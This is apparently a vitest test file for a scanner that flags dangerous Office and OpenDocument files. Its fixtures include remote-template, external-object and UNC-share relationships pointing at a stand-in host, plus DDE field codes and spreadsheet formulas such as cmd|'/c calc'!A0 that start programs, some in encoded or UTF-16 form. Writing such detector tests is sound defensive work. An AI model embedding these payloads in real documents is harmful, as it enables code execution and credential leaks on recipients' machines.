import type { FileExtension } from '@klopt/contract'
import { expect, test } from 'vitest'
import { fault, costOf } from '../testing/fault-of.ts'
import { type Entry, zipFile } from '../testing/zip-file.ts'

const types = { name: '[Content_Types].xml', content: '<Types/>' }
const word = (...parts: Entry[]) => zipFile([types, { name: 'word/document.xml', content: '<w:document/>' }, ...parts])
const excel = (...parts: Entry[]) => zipFile([types, { name: 'xl/workbook.xml', content: '<workbook/>' }, ...parts])
const relation = (kind: string, target: string, mode = 'TargetMode="External"') => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" ${mode}/></Relationships>`,
})
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const sheet = (formula: string) => ({
  name: 'xl/worksheets/sheet1.xml',
  content: `<worksheet><f>${formula}</f></worksheet>`,
})

test.each<[string, FileExtension, Buffer, string | null]>([
  ['an external template', 'docx', word(relation('attachedTemplate', 'https://boos.example/a.dotm')), 'outside'],
  [
    'a template on an external share',
    'docx',
    word(relation('attachedTemplate', 'file:///\\\\boos.example\\a\\b.dotm')),
    'outside',
  ],
  ['an external object', 'docx', word(relation('oleObject', 'http://boos.example/a.html!')), 'outside'],
  ['an external frame', 'docx', word(relation('frame', 'mhtml:http://boos.example/a')), 'outside'],
  ['a picture on an external share', 'docx', word(relation('image', '\\\\10.1.2.3\\a\\b.png')), 'outside'],
  [
    'a field that starts a program',
    'docx',
    word({
      name: 'word/footer1.xml',
      content: `<w:p ${w}><w:fldChar/><w:instrText> DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:p>`,
    }),
    'dde',
  ],
  [
    'a simple field that starts a program',
    'docx',
    word({ name: 'word/a.bin', content: `<w:p ${w}><w:fldSimple w:instr="DDE cmd"/></w:p>` }),
    'dde',
  ],
  [
    'a link to a program',
    'xlsx',
    excel({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    'dde',
  ],
  ['a formula that starts a program', 'xlsx', excel(sheet("cmd|'/c calc'!A0")), 'dde'],
  ['a formula in character references', 'xlsx', excel(sheet("cmd&#124;'/c calc'!A0")), 'dde'],
  [
    'a formula in UTF-16',
    'xlsx',
    excel({ name: 'xl/worksheets/sheet1.xml', content: Buffer.from("\ufeff<a><f>cmd|'x'!A0</f></a>", 'utf16le') }),
    'dde',
  ],
  [
    'a table that starts a program',
    'ods',
    zipFile([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet', stored: true },
      { name: 'content.xml', content: '<a xmlns:t="urn:t" t:formula="of:=DDE(&quot;soffice&quot;)"/>' },
    ]),
    'dde',
  ],
  [
    'a template on the local disk',
    'docx',
    word(relation('attachedTemplate', 'file:///C:\\Users\\Anna\\Normal.dotm')),
    null,
  ],
  [
    'a template on an office server',
    'docx',
    word(relation('attachedTemplate', 'file:///\\\\SRV01\\sjablonen\\brief.dotx')),
    null,
  ],
  ['a picture from the web', 'docx', word(relation('image', 'https://klopt.example/logo.png')), null],
  ['a link', 'docx', word(relation('hyperlink', 'https://klopt.example')), null],
  [
    'a page number and harmless text',
    'docx',
    word({
      name: 'word/footer1.xml',
      content: `<w:p ${w}><w:fldChar/><w:instrText>PAGE</w:instrText><w:t>DDE | &#124;</w:t></w:p>`,
    }),
    null,
  ],
  ['sheet names and texts with a bar', 'xlsx', excel(sheet(`'a|b'!A1&amp;"c|d!"`)), null],
])('a document with %s gets the expected fault', async (_, extension, content, expected) => {
  expect(await fault(extension, content)).toBe(expected)
})

/** Longer than a field code may be, and as hard to compress as normal text. */
const digits = Array.from({ length: 70_000 }, (_, n) => Math.floor(Math.abs(Math.sin(n)) * 1e6) % 10).join('')

test.each<[string, FileExtension, Buffer, string | null]>([
  [
    'a field after many blanks',
    'docx',
    word({ name: 'word/a.xml', content: `${' '.repeat(99)}<w:p ${w}><w:fldSimple w:instr="DDE cmd"/></w:p>` }),
    'dde',
  ],
  ['a formula longer than the limit', 'xlsx', excel(sheet(`1|${digits}`)), 'unchecked'],
  [
    'a field code longer than the limit',
    'docx',
    word({ name: 'word/a.xml', content: `<w:p ${w}><w:instrText>${digits}DDE</w:instrText></w:p>` }),
    'unchecked',
  ],
  [
    'many field codes',
    'docx',
    word({
      name: 'word/a.xml',
      content: `<w:p ${w}>${Array.from({ length: 20_000 }, (_, n) => `<w:fldChar/><w:instrText>PAGE ${n * 7919}</w:instrText>`).join('')}</w:p>`,
    }),
    null,
  ],
])('a document with %s gets the expected result', async (_, extension, content, expected) => {
  expect(await fault(extension, content)).toBe(expected)
})

test('a formula full of bars is checked quickly', async () => {
  const bytes = excel(sheet(`${'|'.repeat(60_000)}${digits.slice(0, 5000)}`))
  expect(await costOf(() => fault('xlsx', bytes))).toBeLessThan(5000)
})

test('a text longer than the limit is not held in memory to its end', async () => {
  const text = `<w:p ${w}><w:t>|${'x'.repeat(30_000_000)}</w:t></w:p>`
  const filler = { name: 'word/media/image1.png', content: Buffer.from(digits.repeat(6)), stored: true }

  expect(await fault('docx', word({ name: 'word/a.xml', content: text }, filler))).toBe('unchecked')
})
